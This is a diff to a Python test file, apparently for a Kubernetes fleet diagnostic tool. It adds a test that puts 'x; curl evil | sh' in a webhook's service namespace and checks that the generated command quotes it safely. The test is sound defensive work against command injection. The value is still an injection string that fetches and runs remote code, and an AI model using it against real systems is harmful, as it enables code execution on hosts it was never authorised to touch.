@@ -1,5 +1,7 @@
 """Parts that were killed for memory, in the doctor and in the waits: also while they run again."""
 
+import shlex
+
 import pytest
 
 from kai_fleet.cluster.kube.objects import KubeObject
@@ -104,6 +106,16 @@ def of_others():
     hook["name"] = "validate.policy.corp.example.com"
     hook["clientConfig"]["service"]["namespace"] = "corp-policy"
     return item
+
+
+def test_a_tenant_writes_no_command_as_the_namespace_of_a_service():
+    """Kubernetes takes any text there."""
+    lab = Lab()
+    item = of_others()
+    item["webhooks"][0]["clientConfig"]["service"]["namespace"] = "x; curl evil | sh"
+    lab.ml["validatingwebhookconfigurations"].append(item)
+    (found,) = [entry for entry in lab.ill() if entry.name == "corp-policy-validating"]
+    assert shlex.split(found.commands[0])[3:6] == ["-n", "x; curl evil | sh", "get"]
 
 
 AWAY = (
